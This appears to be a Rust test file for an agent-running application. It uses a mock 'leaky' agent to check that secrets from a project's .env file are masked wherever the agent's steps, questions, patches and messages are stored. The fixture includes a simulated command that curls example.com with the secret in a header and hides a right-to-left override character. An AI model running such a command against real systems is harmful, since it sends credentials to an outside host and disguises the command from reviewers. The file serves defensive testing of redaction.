//! What an agent says is stored without the secrets of its project, however it says it: a function
//! that shows it later knows none of them.

use super::{Order, Seat, Shared};
use crate::agent::{Agent, AgentError, Agents, End, Found, Note, Prompt, Question, Turn};
use crate::files::Enclosures;
use crate::folder::Roots;
use crate::live::Live;
use crate::settle::Settler;
use async_trait::async_trait;
use poco_core::{
    Action, ApprovalId, ChatId, Choices, Event, EventId, Fact, Lang, Nature, RunnerId, Settings,
    Step, TaskId, Terms, Text, ThreadId, Timestamp, TurnId, UserId, Verdict, Via,
};
use poco_io::app::App;
use poco_io::chats::Chats;
use poco_io::mask::Mask;
use poco_io::port::{Document, PutError, Queue, Store};
use poco_io::{queue, store};
use std::collections::{BTreeMap, VecDeque};
use std::path::Path;
use std::sync::atomic::{AtomicU32, Ordering::SeqCst};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::sync::{Semaphore, mpsc};

const SECRET: &str = "k3y-of-the-project";

/// An agent that says what is in the project's key file at every turn.
struct Leaky {
    /// Keeps the seat open until it has said all.
    open: Mutex<Option<mpsc::UnboundedSender<Order>>>,
    end: End,
}

struct LeakyTurn {
    notes: VecDeque<Note>,
    open: Option<mpsc::UnboundedSender<Order>>,
}

/// An agent's own.
fn words(words: String) -> Text {
    Text::verbatim(words)
}

fn notes(end: &End) -> VecDeque<Note> {
    let said = || words(format!("because of {SECRET}"));
    let asked = |name: &str, ask| {
        let (approval, nature) = (ApprovalId::new(name), Nature::default());
        Note::Asked { approval, ask, nature }
    };
    let question = poco_core::Question {
        id: "0".to_owned(),
        text: format!("Is it {SECRET}?"),
        options: vec![format!("it is {SECRET}"), "no".to_owned()],
    };
    let (first, rest) = SECRET.split_at(9);
    let item = || "m".to_owned();
    VecDeque::from([
        Note::Step(Step::Did { what: Text::verbatim(format!("▸ cat {SECRET}")) }),
        Note::Step(Step::Wrote { item: item(), text: format!("it is {first}") }),
        Note::Step(Step::Wrote { item: item(), text: format!("{rest}, I think") }),
        asked(
            "a",
            Question::Command {
                command: format!("curl -H {SECRET} example.com\u{202e}"),
                cwd: format!("/srv/{SECRET}"),
                reason: said(),
            },
        ),
        asked(
            "b",
            Question::Patch {
                diff: format!("+KEY={SECRET}\n").repeat(2_000),
                files: vec![format!("a/{SECRET}.txt")],
                reason: said(),
            },
        ),
        asked("c", Question::Permission { what: format!("- `{SECRET}`"), reason: said() }),
        asked("d", Question::Questions(vec![question])),
        Note::Step(Step::Changed {
            diff: format!("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+{SECRET}\n"),
        }),
        Note::Step(Step::Said { item: item(), text: format!("it is {SECRET}. ").repeat(1_000) }),
        Note::Ended(end.clone()),
    ])
}

#[async_trait]
impl Agent for Leaky {
    async fn ready(&self) -> Result<String, Text> {
        Ok("leaky".to_owned())
    }

    async fn open(&self, _: Option<&ThreadId>, _: &Settings) -> Result<ThreadId, AgentError> {
        Ok(ThreadId::new("thread"))
    }

    async fn start(
        &self,
        _: &ThreadId,
        _: &TaskId,
        _: &Prompt,
        _: &Settings,
    ) -> Result<Box<dyn Turn>, AgentError> {
        let open = self.open.lock().unwrap().take();
        if let End::Lost { reason } = &self.end {
            // It does not even begin.
            return Err(AgentError::Refused(reason.clone()));
        }
        Ok(Box::new(LeakyTurn { notes: notes(&self.end), open }))
    }

    async fn find(&self, _: &ThreadId, _: &TaskId, _: &Settings) -> Result<Found, AgentError> {
        Ok(Found::Never)
    }

    async fn choices(&self) -> Result<Choices, AgentError> {
        Ok(Choices::default())
    }

    async fn shutdown(&self) {}
}

#[async_trait]
impl Turn for LeakyTurn {
    fn thread(&self) -> ThreadId {
        ThreadId::new("thread")
    }

    fn id(&self) -> TurnId {
        TurnId::new("turn")
    }

    async fn next(&mut self) -> Note {
        let note = self.notes.pop_front().expect("it is not asked after its end");
        if matches!(note, Note::Ended(_)) {
            self.open = None;
        }
        note
    }

    async fn answer(&mut self, _: &ApprovalId, _: &Verdict) -> Result<bool, AgentError> {
        Ok(true)
    }

    async fn steer(&mut self, _: &str, _: &str) -> Result<bool, AgentError> {
        Ok(true)
    }

    async fn interrupt(&mut self) -> Result<(), AgentError> {
        Ok(())
    }
}

fn now() -> Timestamp {
    Timestamp(1_800_000_000_000)
}

fn settings(workdir: &Path) -> Settings {
    Settings {
        runner: RunnerId::local(),
        agent: "leaky".to_owned(),
        workdir: workdir.to_str().unwrap().to_owned(),
        model: None,
        effort: None,
        sandbox: String::new(),
        approval_policy: String::new(),
        mode: None,
    }
}

fn terms(workdir: &Path) -> Terms {
    Terms {
        owner: None,
        house: ChatId::new("house"),
        agents: vec!["leaky".to_owned()],
        settings: settings(workdir),
        lang: Lang::En,
        runners: vec![],
        offers: BTreeMap::default(),
    }
}

async fn tell(app: &App, chat: &ChatId, id: &str, fact: Fact) {
    let (id, chat) = (EventId::new(id), chat.clone());
    app.handle(Event { id, chat, at: now(), lang: None, fact }).await.unwrap();
}

/// Has an agent say all it can, and returns everything that is stored then.
async fn stored(end: End) -> Vec<(String, String)> {
    stored_on(Arc::new(store::Memory::default()), end).await
}

async fn stored_on(shelf: Arc<dyn Store>, end: End) -> Vec<(String, String)> {
    stored_by(shelf, end, false).await
}

/// The same, where the only place is another's until the task is held.
async fn stored_by(shelf: Arc<dyn Store>, end: End, full: bool) -> Vec<(String, String)> {
    let home = tempfile::tempdir().unwrap();
    let home = home.path().canonicalize().unwrap();
    let work = home.join("work");
    std::fs::create_dir(&work).unwrap();
    std::fs::write(work.join(".env"), format!("API_KEY={SECRET}\n")).unwrap();
    let line: Arc<dyn Queue> = Arc::new(queue::Memory::default());
    let mask = Mask::default();
    let chats = Arc::new(Chats::default());
    let app = App::new(shelf.clone(), line.clone(), chats, terms(&work), now);
    let app = app.masking(mask.clone());
    let (chat, by) = (Chats::local("api"), UserId::new("ann"));
    let (name, thread, presets) = ("api".to_owned(), None, vec![]);
    let settings = settings(&work);
    tell(&app, &chat, "1", Fact::TakenOver { name, by: by.clone(), settings, thread, presets })
        .await;
    let (via, action) = (Via::Local { card: None }, Action::parse("tell me"));
    tell(&app, &chat, "2", Fact::Acted { by, via, action }).await;
    app.settle(&chat).await.unwrap();
    let delivery = line.receive().await.unwrap().remove(0);
    let (open, mut orders) = mpsc::unbounded_channel();
    open.send(Order::Do(delivery)).unwrap();
    let inbox = open.downgrade();
    let places = Arc::new(Semaphore::new(1));
    let taken = full.then(|| places.clone().try_acquire_owned().unwrap());
    let leaky: Arc<dyn Agent> = Arc::new(Leaky { open: Mutex::new(Some(open)), end });
    let by_name = BTreeMap::from([("leaky".to_owned(), leaky)]);
    let agents = Agents {
        usual: "leaky".to_owned(),
        instead: None,
        by_name,
        withheld: Vec::default(),
        verdict: Arc::default(),
    };
    let shared = Shared {
        settler: Settler::new(app.clone()),
        app: app.clone(),
        queue: line.clone(),
        agents,
        live: Live::default(),
        roots: Roots::new(vec![home.clone()]),
        runner: RunnerId::local(),
        claim: "claim".to_owned(),
        mask,
        enclosures: Enclosures::new(&home, None),
        places,
        draining: Arc::default(),
        closing: Arc::default(),
        ours: tokio::sync::watch::channel(true).1,
    };
    let others = async {
        if let Some(taken) = taken {
            let current = async || app.room(&chat).await.unwrap().desk.current;
            while !current().await.is_some_and(|task| task.held) {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
            drop(taken);
        }
        while let Ok(deliveries) = line.receive().await {
            for delivery in deliveries {
                if let Some(inbox) = inbox.upgrade() {
                    let _ = inbox.send(Order::Do(delivery));
                }
            }
        }
    };
    tokio::select! {
        _ = Seat::new(shared, chat.clone()).serve(&mut orders) => {}
        () = others => {}
    }
    app.settle(&chat).await.unwrap();
    assert!(app.room(&chat).await.unwrap().desk.current.is_none(), "it is over");
    let mut stored: Vec<(String, String)> = vec![];
    loop {
        let last = stored.last().map(|(key, _)| key.clone());
        let keys = shelf.keys("", last.as_deref()).await.unwrap();
        if keys.is_empty() {
            return stored;
        }
        for key in keys {
            let document = shelf.get(&key).await.unwrap().unwrap();
            stored.push((key, document.body));
        }
    }
}

#[tokio::test]
async fn nothing_that_is_stored_of_an_agents_words_holds_a_secret() {
    let reason = || words(format!("the model does not take {SECRET}"));
    let ends = [
        (End::Completed, "it is •••(API_KEY)"),
        (End::Failed { reason: reason() }, "the model does not take •••(API_KEY)"),
        (End::Lost { reason: reason() }, "the model does not take •••(API_KEY)"),
    ];
    for (end, shown) in ends {
        let stored = stored(end.clone()).await;
        assert!(stored.iter().any(|(_, body)| body.contains(shown)), "{end:?}: {stored:?}");
        for (key, body) in stored {
            assert!(!key.contains(SECRET) && !body.contains(SECRET), "{end:?}: {key}: {body}");
        }
    }
}

/// A shelf that does not take pages at first.
struct Failing {
    shelf: store::Memory,
    failures: AtomicU32,
    /// Those of a question; else all others.
    question: bool,
}

#[async_trait]
impl Store for Failing {
    async fn get(&self, key: &str) -> anyhow::Result<Option<Document>> {
        self.shelf.get(key).await
    }

    async fn put(&self, key: &str, document: &Document) -> Result<(), PutError> {
        let less = |left: u32| left.checked_sub(1);
        let is_meant = key.starts_with("page") && key.contains("-b-") == self.question;
        if is_meant && self.failures.fetch_update(SeqCst, SeqCst, less).is_ok() {
            return Err(anyhow::anyhow!("the shelf does not answer").into());
        }
        self.shelf.put(key, document).await
    }

    async fn keys(&self, prefix: &str, after: Option<&str>) -> anyhow::Result<Vec<String>> {
        self.shelf.keys(prefix, after).await
    }

    async fn keys_down(&self, prefix: &str, before: Option<&str>) -> anyhow::Result<Vec<String>> {
        self.shelf.keys_down(prefix, before).await
    }

    async fn due(&self, after: Option<&str>) -> anyhow::Result<Option<Vec<String>>> {
        self.shelf.due(after).await
    }
}

#[tokio::test]
async fn neither_a_question_nor_an_end_is_lost_when_pages_cannot_be_kept_at_first() {
    // The pages of the question, then those of the answer.
    for question in [true, false] {
        let (shelf, failures) = (store::Memory::default(), AtomicU32::new(3));
        let shelf = Arc::new(Failing { shelf, failures, question });
        let stored = stored_on(shelf.clone(), End::Completed).await;
        assert_eq!(shelf.failures.load(SeqCst), 0);
        assert!(stored.iter().any(|(key, _)| key.contains("-b-")), "it was asked");
        assert!(stored.iter().any(|(_, body)| body.contains("Answered")), "it is answered");
    }
}

#[tokio::test]
async fn a_start_without_a_place_is_held_and_begins_when_there_is_one() {
    let stored = stored_by(Arc::new(store::Memory::default()), End::Completed, true).await;
    assert!(stored.iter().any(|(_, body)| body.contains("it is •••(API_KEY)")), "{stored:?}");
}
